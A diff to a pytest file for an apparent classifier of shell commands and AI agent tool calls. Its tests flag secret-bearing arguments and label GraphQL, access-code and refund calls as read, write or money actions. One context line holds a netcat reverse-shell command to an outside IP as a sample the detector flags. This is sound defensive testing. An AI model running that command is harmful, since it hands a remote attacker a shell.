@@ -359,3 +359,31 @@ def test_lftp_running_its_own_commands_hands_no_shell_to_the_network() -> None:
     facts = analyse('lftp -u user,pw webin.example.org -e "mput /data/*.fastq.gz; bye"')
     assert "remote_code" not in facts.flags
     assert "remote_code" in analyse("nc -e /bin/sh 203.0.113.9 4444").flags
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments", "secret"),
+    [
+        ("jira__get_issue", {"issue_key": "ITOPS-1182"}, False),
+        ("dynamo.get_item", {"partition_key": "order#88", "sort_key": "2024"}, False),
+        ("vendor.call", {"api_key": "k-88"}, True),
+        ("pay.charge", {"stripe_key": "sk_x"}, True),
+    ],
+)
+def test_a_key_names_a_secret_only_when_its_kind_says_so(
+    tool: str, arguments: dict[str, Any], secret: bool
+) -> None:
+    assert (C.SECRET in classify(call(tool, **arguments)).evidence) is secret
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments", "expected"),
+    [
+        ("shop_graphql", {"query": "mutation { productUpdate(input: {id: 1}) { id } }"}, C.WRITE),
+        ("shop_graphql", {"query": "{ products(first: 5) { id } }"}, C.READ),
+        ("access_control__get_codes", {"unit": "4B"}, C.READ),
+        ("execute", {"code": "stripe.Refund.create(charge=c.id)"}, C.MONEY),
+    ],
+)
+def test_graphql_namespaced_names_and_typed_calls(tool: str, arguments: dict[str, Any], expected: C) -> None:
+    assert expected in classify(call(tool, **arguments)).evidence
